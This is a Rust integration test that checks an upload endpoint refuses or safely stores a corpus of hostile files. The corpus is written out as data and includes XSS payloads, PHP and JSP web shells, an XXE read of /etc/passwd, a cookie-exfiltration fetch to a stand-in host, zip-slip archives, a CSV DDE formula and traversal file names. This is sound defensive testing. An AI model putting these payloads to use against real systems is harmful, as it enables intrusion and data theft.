//! Files as attackers send them: each is refused, or kept as bytes that nothing serves, runs or unpacks. What is taken is told
//! by the content alone; the name and the media type that come with it change nothing.

use serde_json::{Value, json};

use crate::world::{Database, Keys, World, client, on_both};

on_both!(every_file_of_the_corpus_is_refused_or_inert);

const CARD: &str = "xyz_card_sbx_#1.0";
/// In every file of the corpus that has room for it: it must be found nowhere on the disk.
const MARK: &str = "corpus-mark-7d21c09e55aa";
/// The test file of antivirus programs, in two halves so that no scanner finds this source.
const EICAR: [&str; 2] = [
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-",
    "ANTIVIRUS-TEST-FILE!$H+H*",
];
const SCRIPT: &str = "<script>alert(document.domain)</script>";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";

/// One file, and whether it is taken.
struct Case {
    name: String,
    media_type: &'static str,
    bytes: Vec<u8>,
    taken: bool,
}

fn case(taken: bool, name: &str, media_type: &'static str, parts: &[&[u8]]) -> Case {
    Case {
        name: name.to_owned(),
        media_type,
        bytes: parts.concat(),
        taken,
    }
}

/// A ZIP archive of one stored entry: enough of it for any reader that unpacks.
fn zip(entry: &str, content: &str, mode: u32) -> Vec<u8> {
    let (name, content) = (entry.as_bytes(), content.as_bytes());
    let length = u16::try_from(name.len()).unwrap();
    let size = u32::try_from(content.len()).unwrap();
    let mut file = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
    file.extend([size.to_le_bytes(), size.to_le_bytes()].concat());
    file.extend([length.to_le_bytes(), [0, 0]].concat());
    file.extend([name, content].concat());
    let central = u32::try_from(file.len()).unwrap();
    file.extend(b"PK\x01\x02\x14\x03\x14\0\0\0\0\0\0\0\0\0\0\0\0\0");
    file.extend([size.to_le_bytes(), size.to_le_bytes()].concat());
    file.extend([length.to_le_bytes(), [0; 2], [0; 2], [0; 2], [0; 2]].concat());
    file.extend([(mode << 16).to_le_bytes(), [0; 4]].concat());
    file.extend(name);
    let bytes = u32::try_from(file.len()).unwrap() - central;
    file.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    file.extend([bytes.to_le_bytes(), central.to_le_bytes()].concat());
    file.extend([0, 0]);
    file
}

/// What is no PDF, PNG, JPEG or WebP by its first bytes, whatever is inside.
fn refused() -> Vec<Case> {
    let no = |name: &str, media_type: &'static str, parts: &[&[u8]]| {
        case(false, name, media_type, parts)
    };
    let eicar = EICAR.concat();
    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{SCRIPT}</svg>");
    let utf16: Vec<u8> = svg.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let slip = zip("../../../../etc/cron.d/x", MARK, 0o100_644);
    let link = zip("document.pdf", "/etc/passwd", 0o120_777);
    let jar = zip("META-INF/MANIFEST.MF", "Main-Class: X", 0o100_644);
    let infected = zip("eicar.com", &eicar, 0o100_644);
    let texts: [(&str, &'static str, &[u8]); 17] = [
        ("a.svg", "image/svg+xml", svg.as_bytes()),
        (
            "a.png",
            "image/png",
            b"<?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>",
        ),
        (
            "bom.svg",
            "image/png",
            b"\xef\xbb\xbf<svg onload=\"alert(1)\"/>",
        ),
        ("utf16.png", "image/png", &utf16),
        ("a.html", "text/html", SCRIPT.as_bytes()),
        (
            "a.pdf",
            "application/pdf",
            b"<!DOCTYPE html><script>1</script>",
        ),
        (
            "xxe.xml",
            "application/pdf",
            b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        ),
        (
            "a.js",
            "text/javascript",
            b"fetch('//evil.example/'+document.cookie)",
        ),
        ("a.php", "image/jpeg", b"<?php system($_GET['c']); ?>"),
        (
            "a.jsp",
            "image/png",
            b"<% Runtime.getRuntime().exec(\"id\"); %>",
        ),
        ("a.sh", "application/pdf", b"#!/bin/sh\nid"),
        (
            ".htaccess",
            "image/png",
            b"AddType application/x-httpd-php .png",
        ),
        (
            "a.mhtml",
            "application/pdf",
            b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>",
        ),
        ("a.rtf", "application/pdf", b"{\\rtf1{\\object\\objocx}}"),
        (
            "a.eps",
            "application/pdf",
            b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file",
        ),
        ("eicar.com", "application/pdf", eicar.as_bytes()),
        ("a.csv", "application/pdf", b"=cmd|' /C calc'!A0"),
    ];
    let archives: [(&str, &[u8]); 9] = [
        ("slip.zip", &slip),
        ("link.zip", &link),
        ("a.jar", &jar),
        ("eicar.zip", &infected),
        ("a.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03"),
        ("a.bz2", b"BZh91AY&SY"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
        ("a.rar", b"Rar!\x1a\x07\x01\0"),
        ("a.xz", b"\xfd7zXZ\0"),
    ];
    let programs: [(&str, &[u8]); 6] = [
        ("a.pdf.exe", b"MZ\x90\0\x03\0\0\0"),
        ("a.elf", b"\x7fELF\x02\x01\x01"),
        ("a.dylib", b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
        ("a.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("a.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0"),
    ];
    let pictures: [(&str, &[u8]); 12] = [
        ("a.gif", b"GIF87a\x01\0\x01\0"),
        ("html.gif", b"GIF89a<script>alert(1)</script>"),
        ("js.gif", b"GIF89a/*\x01\0*/=1;alert(1)//"),
        ("a.bmp", b"BM\x46\0\0\0\0\0"),
        ("a.tif", b"II*\0\x08\0\0\0"),
        ("b.tif", b"MM\0*\0\0\0\x08"),
        ("a.ico", b"\0\0\x01\0\x01\0"),
        ("a.psd", b"8BPS\0\x01\0\0"),
        ("a.heic", b"\0\0\0\x18ftypheic"),
        ("a.avif", b"\0\0\0\x18ftypavif"),
        ("a.wav", b"RIFF\x24\0\0\0WAVEfmt "),
        ("a.webq", b"RIFF\x24\0\0\0WEBQVP8 "),
    ];
    // One byte before, beside or less than what is taken.
    let nearly: [(&str, &[u8]); 10] = [
        ("space.pdf", b" %PDF-1.7"),
        ("html.pdf", b"<html>%PDF-1.7"),
        ("bom.pdf", b"\xef\xbb\xbf%PDF-1.7"),
        ("small.pdf", b"%pdf-1.7"),
        ("dash.pdf", b"%PDF1.7-"),
        ("unix.png", b"\x89PNG\n\x1a\n\0\0\0\rIHDR"),
        ("cut.png", b"\x89PNG\r\n\x1a"),
        ("cut.jpg", b"\xff\xd8"),
        ("nul.pdf", b"\0%PDF-1.7"),
        ("empty.pdf", b""),
    ];
    // Forty megapixels and one row, of a few bytes.
    let floods: [(&str, &[u8]); 3] = [
        (
            "flood.png",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0",
        ),
        (
            "flood.jpg",
            b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x11\0",
        ),
        (
            "flood.webp",
            b"RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff",
        ),
    ];
    let mut all: Vec<Case> = texts
        .iter()
        .map(|(name, media, bytes)| no(name, media, &[*bytes]))
        .collect();
    for list in [&archives[..], &programs, &pictures, &nearly, &floods] {
        let cases = list
            .iter()
            .map(|(name, bytes)| no(name, "application/pdf", &[*bytes]));
        all.extend(cases);
    }
    all
}

/// What is taken, and must stay bytes: other formats inside or behind, and names that mean something elsewhere.
fn inert() -> Vec<Case> {
    let yes = |name: &str, media_type: &'static str, parts: &[&[u8]]| {
        case(
            true,
            name,
            media_type,
            &[parts, &[MARK.as_bytes(), name.as_bytes()][..]].concat(),
        )
    };
    let (pdf, eicar) = (&b"%PDF-1.7\n"[..], EICAR.concat());
    let slip = zip("../../x", MARK, 0o100_644);
    let mut all = vec![
        yes(
            "html-inside.pdf",
            "application/pdf",
            &[pdf, SCRIPT.as_bytes()],
        ),
        yes(
            "opens.pdf",
            "application/pdf",
            &[
                pdf,
                b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
            ],
        ),
        yes(
            "launches.pdf",
            "application/pdf",
            &[pdf, b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"],
        ),
        yes("zip-behind.pdf", "application/pdf", &[pdf, &slip]),
        yes(
            "eicar-behind.pdf",
            "application/pdf",
            &[pdf, eicar.as_bytes()],
        ),
        yes("zip-behind.png", "image/png", &[PNG, &slip]),
        yes(
            "php-behind.png",
            "image/png",
            &[PNG, b"<?php system($_GET['c']); ?>"],
        ),
        yes(
            "script-in-comment.jpg",
            "image/jpeg",
            &[b"\xff\xd8\xff\xfe\0\x2a", SCRIPT.as_bytes()],
        ),
        yes(
            "html-in-exif.webp",
            "image/webp",
            &[b"RIFF\x24\0\0\0WEBPEXIF", SCRIPT.as_bytes()],
        ),
    ];
    for name in [
        "invoice.pdf.exe",
        "shell.php%00.pdf",
        "../../../../etc/cron.d/x",
        "..\\\\..\\\\windows\\\\x.pdf",
        "%2e%2e%2fx.pdf",
        "CON.pdf",
        "a.pdf:stream",
        "a.pdf;.php",
        "<img src=x onerror=alert(1)>.pdf",
        "$(id).pdf",
    ] {
        all.push(yes(name, "application/pdf", &[pdf]));
    }
    for media_type in [
        "text/html",
        "image/svg+xml",
        "application/x-php",
        "image/png",
    ] {
        all.push(yes(&format!("as {media_type}"), media_type, &[pdf]));
    }
    all
}

/// A session with an open step that takes files.
async fn step(world: &World, keys: &Keys) -> (String, String) {
    let open =
        json!({"client_id": keys.client_id, "client_app_key": keys.client_app_key, "skill": CARD});
    let (status, opened) = world.post("/v1/sessions", &open).await;
    assert_eq!(status, 200, "{opened}");
    let nonce = opened["nonce"].as_str().unwrap().to_owned();
    let form = json!({"client_id": keys.client_id, "nonce": nonce, "skill": CARD, "step": "card_form",
                      "data": {"limit": "5000", "currency": "RON"}});
    let path = format!(
        "/v1/sessions/{}/steps",
        opened["session_id"].as_str().unwrap()
    );
    let (status, taken) = world.post(&path, &form).await;
    assert_eq!(status, 200, "{taken}");
    (taken["step_id"].as_str().unwrap().to_owned(), nonce)
}

async fn send(
    world: &World,
    keys: &Keys,
    (step, nonce): &(String, String),
    case: &Case,
) -> (u16, Value) {
    let mut form = Vec::new();
    for (name, value) in [
        ("client_id", &*keys.client_id),
        ("nonce", nonce),
        ("kind", "payslip"),
    ] {
        let field = format!(
            "--corpus\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
        );
        form.extend(field.into_bytes());
    }
    let head = format!(
        "--corpus\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{}\"\r\nContent-Type: {}\r\n\r\n",
        case.name, case.media_type
    );
    form.extend(head.into_bytes());
    form.extend(&case.bytes);
    form.extend(b"\r\n--corpus--\r\n");
    let request = client()
        .post(world.api(&format!("/v1/steps/{step}/upload")))
        .header("content-type", "multipart/form-data; boundary=corpus")
        .body(form);
    let answer = request.send().await.unwrap();
    (answer.status().as_u16(), answer.json().await.unwrap())
}

/// Every file below the data folder, by name and bytes.
fn on_disk(folder: &std::path::Path, all: &mut Vec<(String, Vec<u8>)>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            on_disk(&path, all);
        } else {
            all.push((path.display().to_string(), std::fs::read(&path).unwrap()));
        }
    }
}

async fn every_file_of_the_corpus_is_refused_or_inert(database: Database) {
    let world = World::own(database).await;
    let keys = world.tenant_with(&[CARD]).await;
    let mut before = Vec::new();
    on_disk(world.folder(), &mut before);
    let corpus: Vec<Case> = refused().into_iter().chain(inert()).collect();
    assert!(corpus.len() >= 60, "{}", corpus.len());
    let mut open = step(&world, &keys).await;
    let mut kept = Vec::new();
    for case in &corpus {
        let (status, answer) = send(&world, &keys, &open, case).await;
        let name = &case.name;
        assert_eq!(
            status,
            if case.taken { 200 } else { 400 },
            "{name}: {answer}"
        );
        if case.taken {
            assert!(
                !answer.to_string().contains(name.as_str()),
                "a name of ours: {answer}"
            );
            kept.push(answer["upload_id"].as_str().unwrap().to_owned());
            // Five files a step.
            open = step(&world, &keys).await;
        } else {
            assert_eq!(answer["code"], "invalid_field", "{name}: {answer}");
        }
    }
    // Nothing was made on the disk but in the database, and there nothing is to be read.
    let (mut after, mut hits) = (Vec::new(), Vec::new());
    on_disk(world.folder(), &mut after);
    assert_eq!(before.len(), after.len());
    for (name, bytes) in &after {
        if bytes
            .windows(MARK.len())
            .any(|part| part == MARK.as_bytes())
        {
            hits.push(name);
        }
    }
    for (table, rows) in world.sql().await.everything().await {
        assert!(!rows.iter().any(|row| row.contains(MARK)), "{table}");
    }
    assert!(hits.is_empty(), "{hits:?}");
    // And no address gives a file back.
    for id in &kept {
        for path in [
            format!("/v1/uploads/{id}"),
            format!("/uploads/{id}"),
            format!("/v1/steps/{id}/upload"),
        ] {
            let status = client()
                .get(world.api(&path))
                .send()
                .await
                .unwrap()
                .status();
            assert!(matches!(status.as_u16(), 404 | 405), "{path}: {status}");
        }
    }
}
